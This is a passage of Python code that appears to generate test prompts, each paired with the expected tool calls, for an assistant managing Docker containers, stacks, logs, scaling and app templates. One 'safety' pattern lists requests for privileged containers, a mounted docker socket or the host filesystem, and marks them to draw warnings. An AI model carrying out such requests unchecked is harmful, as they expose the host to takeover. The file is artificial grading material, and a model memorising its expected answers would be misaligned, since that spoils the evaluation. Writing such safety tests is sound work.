            lambda s: s.x(s), rows=[{'im': 'postgres:16'}, {'im': 'redis:7.4'}, {'im': 'nginx:1.27.2'}, {'im': 'grafana/grafana:11.3.0'},
                                    {'im': 'traefik:v3.2'}], count=7),
    Pattern('n7-seq-verify', 'sequence', [('restart {c} and confirm it came back up', {'x': lambda s: E(ctr('restart', s.c), status(s.c))}),
                                          ('redeploy {st} and verify everything in it is up',
                                           {'x': lambda s: ANY([stk('redeploy', s.st), status(s.st)], [stk('redeploy', s.st), lst(stack=s.st)],
                                                               [stk('redeploy', s.st), *[status(m) for m in s.w.members[s.st]]])}),
                                          ('roll {st} back, then show me its history', {'x': lambda s: E(rollback(s.st), hist(s.st))}),
                                          ('stop {cr}, then double-check it is no longer running', {'x': lambda s: E(ctr('stop', s.cr), status(s.cr))}),
                                          ('bounce {c}, then tail its logs to see it boot', {'x': lambda s: E(ctr('restart', s.c), logs(s.c))})],
            lambda s: s.x(s), count=7),
    # ---- n7: phrasal ----
    Pattern('n7-ph-maint', 'phrasal', [('shut {cr} down for the maintenance window', {'x': lambda s: E(ctr('stop', s.cr))}),
                                       ('bring {cx} back online after the maintenance', {'x': lambda s: ANY([ctr('start', s.cx)], [ctr('restart', s.cx)])}),
                                       ('take {cr} offline while we patch the host', {'x': lambda s: E(ctr('stop', s.cr))}),
                                       ('spin the {st} stack back up, maintenance is done',
                                        {'x': lambda s: ANY([stk('start', s.st)], [stk('restart', s.st)], [stk('redeploy', s.st)])}),
                                       ('turn {cr} off until further notice', {'x': lambda s: E(ctr('stop', s.cr))}),
                                       ('power the {st} stack down for the host migration', {'x': lambda s: stack_or_containers('stop', s.st, s.w.members[s.st])})],
            lambda s: s.x(s), count=7),
    Pattern('n7-ph-stack-cycle', 'phrasal', [('bring {st} down and back up again', {'redeploy': True}), ('cycle the {st} stack', {}),
                                             ('power the {st} stack off and on again', {}), ('shut {st} down and start it back up', {})],
            lambda s: ANY([stk('restart', s.st)], [stk('stop', s.st), stk('start', s.st)], *([[stk('redeploy', s.st)]] if hasattr(s, 'redeploy') else [])),
            count=6),
    # ---- n7: question ----
    Pattern('n7-q-stack', 'question', ['is every container in {st} up?', "what's the state of the {st} stack after the deploy?", 'are all {st} services healthy?',
                                       '{st}: how many containers are up?', 'is anything in {st} down?'],
            lambda s: stack_state(s.st, s.w.members[s.st]), count=7),
    Pattern('n7-q-history', 'question', ['when was {st} last redeployed?', 'who deployed {st} last, and when?', 'what was the last change to {st}?',
                                         'has anyone touched {st} since yesterday?', 'what went out in the last {st} deploy?'],
            lambda s: E(hist(s.st)), count=7),
    # ---- n7: logs ----
    Pattern('n7-lg-svc', 'logs', [('grab the last {tail} lines from the {sv.stack} {sv.service}', {}),
                                  ('logs for the {sv.service} service in {sv.stack}, last {tail} lines', {}),
                                  ('tail the {sv.stack} {sv.service} since {mins}m', {}),
                                  ('follow the {sv.service} logs in {sv.stack}', {'f': True}),
                                  ('errors from the {sv.stack} {sv.service} in the last {hours} hours', {'g': 'error'}),
                                  ('{sv.service} in {sv.stack}: what did it log in the past {mins} minutes?', {})],
            lambda s: E(logs(s.sv.name, **({'tail': s.tail} if hasattr(s, 'tail') else {}), **({'follow': True} if hasattr(s, 'f') else {}),
                             **({'grep_ci': s.g} if hasattr(s, 'g') else {}),
                             **({'since_s': window_s(s)} if hasattr(s, 'mins') or hasattr(s, 'hours') else {}))), count=7),
    Pattern('n7-lg-grab', 'logs', ['grab the last {tail} lines from {c}', 'pull the last {tail} lines of the {c} logs',
                                   "I need {c}'s last {tail} log lines for the postmortem", 'fetch {tail} lines of {gen} output',
                                   'get me the tail of {c}, {tail} lines'],
            lambda s: E(logs(first(s, 'c', 'gen'), tail=s.tail)), count=7),
    Pattern('n7-lg-errors-window', 'logs', [('give me the error lines from {c} in the past {hours}h', {'g': 'error'}),
                                            ('only warnings from {c} over the last {mins} minutes', {'g': 'warn'}),
                                            ('{c}: errors in the past {hours} hours', {'g': 'error'}),
                                            ('any {word} in {c} since {mins}m ago?', {}),
                                            ('grep {c} for {word}, last {hours}h only', {})],
            lambda s: E(logs(s.c, grep_ci=s.g if hasattr(s, 'g') else s.word, since_s=window_s(s))), count=7),
    # ---- n7: params ----
    Pattern('n7-pa-db-containers', 'params', [('spin up a redis 7 container with password {pw} on {port}',
                                               {'x': lambda s: ANY([run(image_prefix='redis:7', ports=[port(s.port)], command_has=f'--requirepass {s.pw}')],
                                                                   [run(image_prefix='redis:7', ports=[port(s.port)], env={'REDIS_PASSWORD': s.pw})],
                                                                   [tmpl('redis', port=s.port, password=s.pw)])}),
                                              ('need a throwaway postgres 16 on {port}, password {pw}',
                                               {'x': lambda s: E(run(image_prefix='postgres:16', ports=[port(s.port)], env={'POSTGRES_PASSWORD': s.pw}))}),
                                              ('stand up mysql 8.0 for the integration tests: root password {pw}, database {dbname}',
                                               {'x': lambda s: E(run(image_prefix='mysql:8.0', env={'MYSQL_ROOT_PASSWORD': s.pw, 'MYSQL_DATABASE': s.dbname}))}),
                                              ('mongo 7 for local dev, root user {user}, root password {pw}',
                                               {'x': lambda s: E(run(image_prefix='mongo:7', env={'MONGO_INITDB_ROOT_USERNAME': s.user, 'MONGO_INITDB_ROOT_PASSWORD': s.pw}))}),
                                              ('mariadb 11.4 on port {port} with root password {pw}',
                                               {'x': lambda s: ANY(*[[run(image_prefix='mariadb:11.4', ports=[port(s.port)], env={f'{p}_ROOT_PASSWORD': s.pw})]
                                                                     for p in ('MARIADB', 'MYSQL')])}),
                                              ('postgres 16 for the staging smoke tests: user {user}, password {pw}, db {dbname}',
                                               {'x': lambda s: E(run(image_prefix='postgres:16', env={'POSTGRES_USER': s.user, 'POSTGRES_PASSWORD': s.pw, 'POSTGRES_DB': s.dbname}))})],
            lambda s: s.x(s), count=7),
    Pattern('n7-pa-tmpl-settings', 'params', [('set up minio on port {port}, root user {user}, root password {pw}',
                                               {'t': 'minio', 'pm': {'port': 'port', 'root_user': 'user', 'root_password': 'pw'}, 'fx': {}}),
                                              ('deploy rabbitmq for the new workers: admin user {user}, admin password {pw}',
                                               {'t': 'rabbitmq', 'pm': {'admin_user': 'user', 'admin_password': 'pw'}, 'fx': {}}),
                                              ('install gitea on {port} with ssh on {port2}', {'t': 'gitea', 'pm': {'port': 'port', 'ssh_port': 'port2'}, 'fx': {}}),
                                              ('deploy wordpress on {port}, db password {pw}', {'t': 'wordpress', 'pm': {'port': 'port', 'db_password': 'pw'}, 'fx': {}}),
                                              ('stand up vaultwarden on {port} with signups disabled',
                                               {'t': 'vaultwarden', 'pm': {'port': 'port'}, 'fx': {'signups_allowed': False}}),
                                              ('roll out keycloak on {port}, admin user {user}, admin password {pw}',
                                               {'t': 'keycloak', 'pm': {'port': 'port', 'admin_user': 'user', 'admin_password': 'pw'}, 'fx': {}})],
            lambda s: E(tmpl(s.t, **slots_map(s, s.pm), **s.fx)), count=7),
    Pattern('n7-pa-run-mounts', 'params', [('run {img.say} on {port} with {src} mounted read-only at {tgt}',
                                            {'x': lambda s: E(run(image_prefix=s.img.prefix, ports=[port(s.port)],
                                                                  volumes=[{'source': s.src, 'target': s.tgt, 'read_only': True}]))}),
                                           ('{img.say} container for the staging smoke test: name {newname}, port {port}, env APP_ENV=staging',
                                            {'x': lambda s: E(run(image_prefix=s.img.prefix, name=s.newname, ports=[port(s.port)], env={'APP_ENV': 'staging'}))}),
                                           ('new {img.say} with {src} bind-mounted to {tgt} and LOG_LEVEL=debug',
                                            {'x': lambda s: E(run(image_prefix=s.img.prefix, env={'LOG_LEVEL': 'debug'},
                                                                  volumes=[{'source': s.src, 'target': s.tgt, 'read_only': False}]))}),
                                           ('run {img.say} named {newname}, mount {src} at {tgt} read-only',
                                            {'x': lambda s: E(run(image_prefix=s.img.prefix, name=s.newname,
                                                                  volumes=[{'source': s.src, 'target': s.tgt, 'read_only': True}]))}),
                                           ('run {img.say} on {port} and mount {src} at {tgt}',
                                            {'x': lambda s: E(run(image_prefix=s.img.prefix, ports=[port(s.port)],
                                                                  volumes=[{'source': s.src, 'target': s.tgt, 'read_only': False}]))})],
            lambda s: s.x(s), rows=[{'src': '/srv/data', 'tgt': '/data'}, {'src': '/opt/config', 'tgt': '/config'}, {'src': '/var/backups', 'tgt': '/backups'},
                                    {'src': '/mnt/media', 'tgt': '/media'}], count=7),
    # ---- n7: scale ----
    Pattern('n7-sc-ticket', 'scale', [('Action: scale {svs.stack}/{svs.service} to {n}. Reason: queue backlog.', {}),
                                      ('Change: {svs.stack} {svs.service} replicas 1 -> {n}', {}),
                                      ('Runbook: set {svs.stack} {svs.service} replicas = {n}', {}),
                                      ('[capacity] {svs.stack} {svs.service}: {n} replicas', {}),
                                      ('Action: scale {svs.stack} {svs.service} down to 1. Reason: load is back to normal.', {'n': 1})],
            lambda s: E(scale(s.svs.stack, s.svs.service, s.n)), case='keep', count=7),
    Pattern('n7-sc-down', 'scale', [('traffic is back to normal, scale {svs.stack} {svs.service} back to 1', {'n': 1}),
                                    ('scale in the {svs.stack} {svs.service} to a single replica', {'n': 1}),
                                    ('drop the {svs.service} service in {svs.stack} to 0 replicas', {'n': 0}),
                                    ('park the {svs.stack} {svs.service} at zero replicas for now', {'n': 0}),
                                    ('the incident is over, take {svs.stack} {svs.service} back down to a single replica', {'n': 1}),
                                    ('scale {svs.stack} {svs.service} to zero until the fix ships', {'n': 0})],
            lambda s: E(scale(s.svs.stack, s.svs.service, s.n)), count=7),
    # ---- n7: template ----
    Pattern('n7-tp-ops', 'template', ['stand up {tm.say} for the team', 'we need a {pu.say} for the new project, deploy one', 'provision {tm.say} on this host',
                                      'roll out {tm.say}', 'Ticket: deploy a {pu.say}. Requested by: platform team.'],
            lambda s: ANY(*[[tmpl(t)] for t in (s.pu.ids if hasattr(s, 'pu') else (s.tm.id,))]), count=7),
    # ---- n7: inventory ----
    Pattern('n7-in-rollback', 'inventory', ['roll the {st} stack back to the previous version', 'the last {st} deploy broke the login page, roll it back',
                                            '{st} needs to be rolled back', 'Action: rollback {st}. Reason: failed deploy.', 'back out the last change to {st}',
                                            'revert {st} to the previous revision'],
            lambda s: E(rollback(s.st)), count=7),
    Pattern('n7-in-pull', 'inventory', ['pull {im} ahead of the maintenance window', 'pre-pull {im} so the deploy is fast', 'make sure {im} is cached locally',
                                        'Action: pull {im}. Reason: upcoming upgrade.', 'fetch the {im} image now so the rollout does not wait on the registry'],
            lambda s: E(pull(s.im)), rows=[{'im': 'postgres:16.4'}, {'im': 'redis:7.4-alpine'}, {'im': 'nginx:1.27.2'}, {'im': 'grafana/grafana:11.3.0'},
                                           {'im': 'traefik:v3.2'}, {'im': 'ghcr.io/immich-app/immich-server:v1.116'}], count=7),
    # ---- n7: ask ----
    Pattern('n7-ask-oncall', 'ask', ["restart {amb}, it's leaking memory", '{amb} is timing out, bounce it', 'grab the last {tail} lines from {amb}',
                                     'Action: stop {amb}. Reason: maintenance.'],
            lambda s: ASK(), count=7),
    # ---- n7: nonsense ----
    Pattern('n7-em-oncall', 'nonsense', ['fix the 502s', 'make the pager stop', 'see above', 'same as last time', 'Action: TBD. Reason: TBD.',
                                         "restart {ghost}, it's leaking memory", 'roll back whatever broke prod'],
            lambda s: EMPTY(), count=7),
    # ---- n7: safety ----
    Pattern('n7-sf-policy', 'safety', ['spin up a debug alpine container with the docker socket mounted', 'run a privileged busybox so I can poke at the host network',
                                       'need an ubuntu container with / mounted at /host for forensics',
                                       'run alpine privileged with the host pid namespace to debug the node',
                                       'give me an alpine container with /var/run/docker.sock mounted in'],
            lambda s: {'warnings': True}, count=7),
    # ---- n8: lifecycle ----
    Pattern('n8-lc-signature', 'lifecycle', [('Hi, please restart {c}. Thanks, Maria', {'op': 'restart'}),
                                             ('stop {cr}\n\nSent from my iPhone', {'op': 'stop'}),
                                             ('Dear admin, kindly start {cx} at your earliest convenience. Regards, Hans', {'op': 'start'}),
                                             ('Good morning! Could you pause {c} please? Cheers, Tom', {'op': 'pause'}),
                                             ('hey, pls restart {c} -- sent from my phone, sorry for typos', {'op': 'restart'})],
            lambda s: E(ctr(s.op, first(s, 'c', 'cr', 'cx'))), count=7),
    # ---- n8: stack ----
    Pattern('n8-st-verb-chain', 'stack', [('stop the {st} stack and remove it',
                                           {'x': lambda s: ANY([stk('stop', s.st), stk('remove', s.st)], [ctr('stop', *s.w.members[s.st]), stk('remove', s.st)])}),
                                          ('{st}: stop, pull, start',
                                           {'x': lambda s: ANY(*[[stk('stop', s.st) if d else ctr('stop', *s.w.members[s.st]), stk('pull', s.st),
                                                                  stk('start', s.st) if u else ctr('start', *s.w.members[s.st])]
                                                                 for d in (True, False) for u in (True, False)])}),
                                          ('take the {st} stack down, pull the new images and bring it back up',
                                           {'x': lambda s: ANY(*[[stk('stop', s.st) if d else ctr('stop', *s.w.members[s.st]), stk('pull', s.st), stk(u, s.st)]
                                                                 for d in (True, False) for u in ('start', 'restart', 'redeploy')])}),
                                          ('stop {st}, then delete the whole stack',
                                           {'x': lambda s: ANY([stk('stop', s.st), stk('remove', s.st)], [ctr('stop', *s.w.members[s.st]), stk('remove', s.st)])})],
            lambda s: s.x(s), count=7),
    # ---- n8: coordination ----
    Pattern('n8-co-trio-services', 'coordination', ['{v} {n8_trio.a}, {n8_trio.b} & {n8_trio.c} in {n8_trio.stack}',
                                                    "{v} {n8_trio.stack}'s {n8_trio.a}, {n8_trio.b} and {n8_trio.c}",
                                                    '{v} the {n8_trio.a}/{n8_trio.b}/{n8_trio.c} containers of {n8_trio.stack}',
                                                    'in {n8_trio.stack}, {v} the {n8_trio.a}, the {n8_trio.b} and the {n8_trio.c}'],
            lambda s: (stack_or_containers(s.op, s.n8_trio.stack, s.w.members[s.n8_trio.stack])
                       if {s.n8_trio.na, s.n8_trio.nb, s.n8_trio.nc} == set(s.w.members[s.n8_trio.stack])
                       else each_or_all(s.op, [s.n8_trio.na, s.n8_trio.nb, s.n8_trio.nc])),
            rows=verbs('restart', 'stop', 'start', 'bounce=restart'), count=8),
    Pattern('n8-co-group-count', 'coordination', ['{v} the {n8_grp.word} {n8_grp.stack} containers', '{v} the {n8_grp.n} containers of {n8_grp.stack}',
                                                  '{v} {n8_grp.all} of the {n8_grp.stack} containers',
                                                  '{n8_grp.stack} has {n8_grp.word} containers, {v} them all'],
            lambda s: stack_or_containers(s.op, s.n8_grp.stack, s.w.members[s.n8_grp.stack]), rows=verbs('restart', 'stop', 'start'), count=7),
    Pattern('n8-co-except-two', 'coordination', ['{v} everything in {n8_trio.stack} except the {n8_trio.a} and the {n8_trio.b}',
                                                 '{v} all of {n8_trio.stack} but not its {n8_trio.a} or {n8_trio.b}',
                                                 '{v} the {n8_trio.stack} stack, minus {n8_trio.na} and {n8_trio.nb}',
                                                 '{v} every {n8_trio.stack} container other than {n8_trio.a} and {n8_trio.b}'],
            lambda s: each_or_all(s.op, [n for n in s.w.members[s.n8_trio.stack] if n not in (s.n8_trio.na, s.n8_trio.nb)]),
            rows=verbs('restart', 'stop'), count=7),
    Pattern('n8-co-range', 'coordination', ['restart {k}-0{a} through {k}-0{b}', 'bounce {k}-0{a} thru 0{b}', 'please restart {k}-0{a} to {k}-0{b}',
                                            'restart every {k} from {k}-0{a} up to and including {k}-0{b}'],
            lambda s: each_or_all('restart', [f'{s.k}-{i:02d}' for i in range(s.a, s.b + 1)]),
            rows=[{'k': 'web', 'a': 1, 'b': 3}, {'k': 'worker', 'a': 2, 'b': 5}, {'k': 'cron', 'a': 1, 'b': 4}, {'k': 'tool', 'a': 3, 'b': 6},
                  {'k': 'runner', 'a': 4, 'b': 7}, {'k': 'job', 'a': 1, 'b': 3}, {'k': 'proxy', 'a': 5, 'b': 7}],
            states=('fleet',), count=7),
    Pattern('n8-co-afterthought', 'coordination', ['{v} {c}. {c2} too.', '{v} {c} - oh and {c2} as well', '{v} {c} (and {c2} while you are at it)',
                                                   '{v} {c}... actually {c2} as well', '{v} {c} pls. same for {c2}'],
            lambda s: each_or_all(s.op, [s.c, s.c2]), rows=SAFE_VERBS, count=7),
    Pattern('n8-co-cross-stack', 'coordination', ['{v} the {sv.service} of {sv.stack} and the {sv2.service} of {sv2.stack}',
                                                  "{v} {sv.stack}'s {sv.service} plus {sv2.stack}'s {sv2.service}",
                                                  '{v} {sv.stack} {sv.service} and {sv2.stack} {sv2.service}',
                                                  '{v} {p} together with the {sv.service} in {sv.stack}'],
            lambda s: each_or_all(s.op, [s.p if hasattr(s, 'p') else s.sv2.name, s.sv.name]), rows=verbs('restart', 'stop', 'start'), count=7),
    Pattern('n8-co-three-stacks', 'coordination', ['{v} the {st}, {st2} & {st3} stacks', '{v} stacks {st}/{st2}/{st3}', '{st}, {st2}, {st3}: {v} all three',
                                                   'please {v} all three stacks: {st}, {st2} and {st3}'],
            lambda s: unordered(E(stk(s.op, s.st), stk(s.op, s.st2), stk(s.op, s.st3))), rows=verbs('redeploy', 'pull', 'recreate=redeploy'), count=7),
    Pattern('n8-co-all-but', 'coordination', [('stop whatever is running, except {cr} and {cr2}', {'op': 'stop'}),
                                              ('pause all running containers apart from {cr} and {cr2}', {'op': 'pause'}),
                                              ('stop every running container but {cr}, {cr2} and {cr3}', {'op': 'stop'}),
                                              ('pause everything except {cr} and {cr2}', {'op': 'pause'}),
                                              ('all the running containers except {cr} and {cr2} can be stopped now', {'op': 'stop'})],
            lambda s: each_or_all(s.op, [n for n in s.w.running_all if n not in {getattr(s, k) for k in ('cr', 'cr2', 'cr3') if hasattr(s, k)}]),
            count=7),
    # ---- n8: sequence ----
    Pattern('n8-seq-semicolon', 'sequence', [('restart {c}; also show me the logs of {c2}', {'x': lambda s: unordered(E(ctr('restart', s.c), logs(s.c2)))}),
                                             ('stop {cr}; remove it afterwards', {'x': lambda s: E(ctr('stop', s.cr), ctr('remove', s.cr))}),
                                             ('pull {st}; once the pull is done, redeploy it', {'x': lambda s: E(stk('pull', s.st), stk('redeploy', s.st))}),
                                             ('restart {c}; then give me its status', {'x': lambda s: E(ctr('restart', s.c), status(s.c))}),
                                             ('pause {c}; and restart {c2} while you are at it', {'x': lambda s: unordered(E(ctr('pause', s.c), ctr('restart', s.c2)))})],
            lambda s: s.x(s), count=7),
    Pattern('n8-seq-after-main', 'sequence', [("show me {c}'s logs after you restart it", {'x': lambda s: E(ctr('restart', s.c), logs(s.c))}),
                                              ('delete {cr} after you have stopped it', {'x': lambda s: E(ctr('stop', s.cr), ctr('remove', s.cr))}),
                                              ('redeploy {st} after pulling its images', {'x': lambda s: E(stk('pull', s.st), stk('redeploy', s.st))}),
                                              ('tell me how {cx} is doing after starting it', {'x': lambda s: E(ctr('start', s.cx), status(s.cx))}),
                                              ('list the running containers once you have stopped {cr}', {'x': lambda s: E(ctr('stop', s.cr), lst(status='running'))})],
            lambda s: s.x(s), count=7),
    Pattern('n8-seq-but-first', 'sequence', [('restart {c}, but first show me the last {tail} lines of its log', {'x': lambda s: E(logs(s.c, tail=s.tail), ctr('restart', s.c))}),
                                             ('redeploy {st} - but before that, pull the new images', {'x': lambda s: E(stk('pull', s.st), stk('redeploy', s.st))}),
                                             ('remove {cx}, but check its logs first', {'x': lambda s: E(logs(s.cx), ctr('remove', s.cx))}),
                                             ('stop {cr}, but before you do, show me its status', {'x': lambda s: E(status(s.cr), ctr('stop', s.cr))}),
                                             ('roll {st} back, but show me its history first', {'x': lambda s: E(hist(s.st), rollback(s.st))})],
            lambda s: s.x(s), count=7),
    Pattern('n8-seq-if-ok', 'sequence', [('stop {cr}, and if that works, remove it', {'x': lambda s: E(ctr('stop', s.cr), ctr('remove', s.cr))}),
                                         ('pull the images for {st}, and if nothing fails, redeploy it', {'x': lambda s: E(stk('pull', s.st), stk('redeploy', s.st))}),
                                         ('restart {c} and if it comes back up, show me its last {tail} lines',
                                          {'x': lambda s: ANY([ctr('restart', s.c), logs(s.c, tail=s.tail)], [ctr('restart', s.c), status(s.c), logs(s.c, tail=s.tail)])}),
                                         ('try starting {cx}, and if it starts, tail its logs',
                                          {'x': lambda s: ANY([ctr('start', s.cx), logs(s.cx)], [ctr('start', s.cx), status(s.cx), logs(s.cx)])}),
                                         ('redeploy {st} and, assuming that goes fine, restart {p} too', {'x': lambda s: E(stk('redeploy', s.st), ctr('restart', s.p))})],
            lambda s: s.x(s), count=7),
    Pattern('n8-seq-free-port', 'sequence', [('stop {cr} to free up port {port}, then deploy {tm.say} on {port}', {'x': lambda s: E(ctr('stop', s.cr), tmpl(s.tm.id, port=s.port))}),
                                             ('remove {cx} and put {tm.say} in its place on port {port}', {'x': lambda s: E(ctr('remove', s.cx), tmpl(s.tm.id, port=s.port))}),
                                             ('shut down the {st} stack and deploy {tm.say} as {newstack} instead',
                                              {'x': lambda s: ANY([stk('stop', s.st), tmpl(s.tm.id, stack=s.newstack)], [ctr('stop', *s.w.members[s.st]), tmpl(s.tm.id, stack=s.newstack)])}),
                                             ('deploy {tm.say} on {port}, and once it is up, stop {cr}', {'x': lambda s: E(tmpl(s.tm.id, port=s.port), ctr('stop', s.cr))}),
                                             ('pull {img.prefix} and then run it as {newname} on port {port}',
                                              {'x': lambda s: ANY(*[[pull(i), run(image_prefix=s.img.prefix, name=s.newname, ports=[port(s.port)])]
                                                                    for i in ((s.img.prefix,) if ':' in s.img.prefix else (s.img.prefix, f'{s.img.prefix}:latest'))])})],
            lambda s: s.x(s), count=7),
    Pattern('n8-seq-meanwhile', 'sequence', [('while {c} restarts, show me the logs of {c2}', {'x': lambda s: (ctr('restart', s.c), logs(s.c2))}),
                                             ('restart {c}, and meanwhile give me the status of {c2}', {'x': lambda s: (ctr('restart', s.c), status(s.c2))}),
                                             ('pull {st} and in the meantime list my images', {'x': lambda s: (stk('pull', s.st), lst('images'))}),
                                             ('stop {cr} - in parallel, could you start {cx}?', {'x': lambda s: (ctr('stop', s.cr), ctr('start', s.cx))}),
                                             ('redeploy {st}, and at the same time tail the last {tail} lines of {c}',
                                              {'x': lambda s: (stk('redeploy', s.st), logs(s.c, tail=s.tail))})],
            lambda s: unordered(E(*s.x(s))), count=7),
    Pattern('n8-seq-lastly', 'sequence', [('start by stopping {cr}, next start {cx}, and finish with a list of what is running',
                                           {'x': lambda s: E(ctr('stop', s.cr), ctr('start', s.cx), lst(status='running'))}),
                                          ('step one pull {st}, step two redeploy it', {'x': lambda s: E(stk('pull', s.st), stk('redeploy', s.st))}),
                                          ('begin with the logs of {c}, then restart it, and lastly show its status',
                                           {'x': lambda s: E(logs(s.c), ctr('restart', s.c), status(s.c))}),
                                          ('restart {c}. next, {c2}. lastly, show me what is running',
                                           {'x': lambda s: E(ctr('restart', s.c), ctr('restart', s.c2), lst(status='running'))}),
                                          ('to begin, stop {cr}. when that is done, remove it.', {'x': lambda s: E(ctr('stop', s.cr), ctr('remove', s.cr))})],
            lambda s: s.x(s), count=7),
    Pattern('n8-seq-formal', 'sequence', [('Good afternoon. Could you please restart {c}? Once it is running again, I would like to see the last {tail} lines of its log. Thank you.',
                                           {'x': lambda s: E(ctr('restart', s.c), logs(s.c, tail=s.tail))}),
                                          ('Would you stop {cr} for me? After that, please delete it. Kind regards.',
                                           {'x': lambda s: E(ctr('stop', s.cr), ctr('remove', s.cr))}),
                                          ('Could you fetch the new images for the {st} stack? Then redeploy it, please.',
                                           {'x': lambda s: E(stk('pull', s.st), stk('redeploy', s.st))}),
                                          ('Please start {cx}. Afterwards, could you check whether it is running properly?',
                                           {'x': lambda s: E(ctr('start', s.cx), status(s.cx))}),
                                          ('Would you be so kind as to show me the logs of {c} first? Then restart it, if you would.',
                                           {'x': lambda s: E(logs(s.c), ctr('restart', s.c))})],
            lambda s: s.x(s), count=7),
    # ---- n8: phrasal ----
    Pattern('n8-ph-opposites', 'phrasal', [('turn {cr} off and turn {cx} on', {'x': lambda s: unordered(E(ctr('stop', s.cr), ctr('start', s.cx)))}),
                                           ('take {cr} offline and bring {cx} online',
                                            {'x': lambda s: unordered(ANY([ctr('stop', s.cr), ctr('start', s.cx)], [ctr('stop', s.cr), ctr('restart', s.cx)]))}),
                                           ('switch {cr} off and switch {cx} back on',
                                            {'x': lambda s: unordered(ANY([ctr('stop', s.cr), ctr('start', s.cx)], [ctr('stop', s.cr), ctr('restart', s.cx)]))}),
                                           ('shut down {st} and spin {st2} up',
                                            {'x': lambda s: unordered(ANY(*[[stk('stop', s.st) if d else ctr('stop', *s.w.members[s.st]), stk(u, s.st2)]
                                                                            for d in (True, False) for u in ('start', 'redeploy')]))}),
                                           ('wind {st} down and fire {st2} up in its place',
                                            {'x': lambda s: unordered(ANY(*[[stk('stop', s.st) if d else ctr('stop', *s.w.members[s.st]), stk(u, s.st2)]
                                                                            for d in (True, False) for u in ('start', 'redeploy')]))})],
            lambda s: s.x(s), count=7),
    # ---- n8: params ----
    Pattern('n8-pa-two-templates', 'params', ['deploy {a} on {port} and {b} on {port2}', 'I need {a} on port {port} and {b} on port {port2}',
                                              'set up {a} ({port}) and {b} ({port2})', 'install {a} and {b}, the first on {port}, the second on {port2}'],
            lambda s: unordered(E(tmpl(s.ta, port=s.port), tmpl(s.tb, port=s.port2))),
            rows=[{'a': 'gitea', 'ta': 'gitea', 'b': 'vaultwarden', 'tb': 'vaultwarden'}, {'a': 'wiki.js', 'ta': 'wikijs', 'b': 'n8n', 'tb': 'n8n'},
                  {'a': 'ghost', 'ta': 'ghost', 'b': 'minio', 'tb': 'minio'}, {'a': 'node-red', 'ta': 'node-red', 'b': 'keycloak', 'tb': 'keycloak'},
                  {'a': 'wordpress', 'ta': 'wordpress', 'b': 'rabbitmq', 'tb': 'rabbitmq'}, {'a': 'mongo express', 'ta': 'mongo-express', 'b': 'gitea', 'tb': 'gitea'}],
            count=7),
    Pattern('n8-pa-distractor-number', 'params', [('deploy {tm.say} on {port} - not {port2}, {c} already uses that one', {'x': lambda s: E(tmpl(s.tm.id, port=s.port))}),
                                                  ('run {img.say} on port {port}, since {port2} is taken', {'x': lambda s: E(run(image_prefix=s.img.prefix, ports=[port(s.port)]))}),
                                                  ('set up {tm.say} on port {port} (the old one on {port2} is gone)', {'x': lambda s: E(tmpl(s.tm.id, port=s.port))}),
                                                  ('{port2} is busy, so put {tm.say} on {port} instead', {'x': lambda s: E(tmpl(s.tm.id, port=s.port))}),
                                                  ('run postgres 16 with password {pw} on {port}, my laptop already has a postgres on 5432',
                                                   {'x': lambda s: E(run(image_prefix='postgres:16', env={'POSTGRES_PASSWORD': s.pw}, ports=[port(s.port)]))})],
            lambda s: s.x(s), count=7),
    Pattern('n8-pa-settings-first', 'params', [('port {port}, stack name {newstack}: deploy {tm.say} with those', {'x': lambda s: E(tmpl(s.tm.id, stack=s.newstack, port=s.port))}),
                                               ('user {user}, password {pw} - use those for a new mongo 7 container',
                                                {'x': lambda s: E(run(image_prefix='mongo:7', env={'MONGO_INITDB_ROOT_USERNAME': s.user, 'MONGO_INITDB_ROOT_PASSWORD': s.pw}))}),
                                               ('with password {pw} and database {dbname}, spin up a postgres 16',
                                                {'x': lambda s: E(run(image_prefix='postgres:16', env={'POSTGRES_PASSWORD': s.pw, 'POSTGRES_DB': s.dbname}))}),
                                               ('on port {port} and named {newname}, please run {img.say}',
                                                {'x': lambda s: E(run(image_prefix=s.img.prefix, name=s.newname, ports=[port(s.port)]))}),
                                               ('the root password should be {pw} and the db {dbname}. now create me a mysql 8 container with that',
                                                {'x': lambda s: E(run(image_prefix='mysql:8', env={'MYSQL_ROOT_PASSWORD': s.pw, 'MYSQL_DATABASE': s.dbname}))})],
            lambda s: s.x(s), count=7),
    Pattern('n8-pa-two-runs', 'params', [('run postgres 16 with password {pw}, plus {img.say} on port {port}',
                                          {'x': lambda s: unordered(E(run(image_prefix='postgres:16', env={'POSTGRES_PASSWORD': s.pw}), run(image_prefix=s.img.prefix, ports=[port(s.port)])))}),
                                         ('two containers please: {img.say} on {port} and redis 7 with password {pw}',
                                          {'x': lambda s: unordered(ANY(*[[run(image_prefix=s.img.prefix, ports=[port(s.port)]), r] for r in (
                                              run(image_prefix='redis:7', command_has=f'--requirepass {s.pw}'), run(image_prefix='redis:7', env={'REDIS_PASSWORD': s.pw}),
                                              tmpl('redis', password=s.pw))]))}),
                                         ('spin up a new mysql 8 (root password {pw}) and next to it {img.say} named {newname}',
                                          {'x': lambda s: unordered(E(run(image_prefix='mysql:8', env={'MYSQL_ROOT_PASSWORD': s.pw}), run(image_prefix=s.img.prefix, name=s.newname)))}),
                                         ('I need {img.say} on {port} and another {img.say} on {port2}',
                                          {'x': lambda s: unordered(E(run(image_prefix=s.img.prefix, ports=[port(s.port)]), run(image_prefix=s.img.prefix, ports=[port(s.port2)])))}),
                                         ('mongo 7 with root user {user} and password {pw}, and {img.say} on {port} next to it',
                                          {'x': lambda s: unordered(E(run(image_prefix='mongo:7', env={'MONGO_INITDB_ROOT_USERNAME': s.user, 'MONGO_INITDB_ROOT_PASSWORD': s.pw}),
                                                                      run(image_prefix=s.img.prefix, ports=[port(s.port)])))})],
            lambda s: s.x(s), count=7),
    Pattern('n8-pa-env-prose', 'params', [('run {img.say} and pass it LOG_LEVEL=debug and APP_ENV=staging as environment variables', {'env': {'LOG_LEVEL': 'debug', 'APP_ENV': 'staging'}}),
                                          ('spin up a new {img.say} container - the environment needs TZ set to Europe/Berlin and DEBUG set to 1', {'env': {'TZ': 'Europe/Berlin', 'DEBUG': '1'}}),
                                          ('new {img.say} container where APP_ENV is production and LOG_LEVEL is warn', {'env': {'APP_ENV': 'production', 'LOG_LEVEL': 'warn'}}),
                                          ('run {img.say} on {port} - give it the env var GREETING with the value hello', {'env': {'GREETING': 'hello'}}),
                                          ('{img.say} with these env vars: PUID 1000, PGID 1000, TZ UTC', {'env': {'PUID': '1000', 'PGID': '1000', 'TZ': 'UTC'}})],
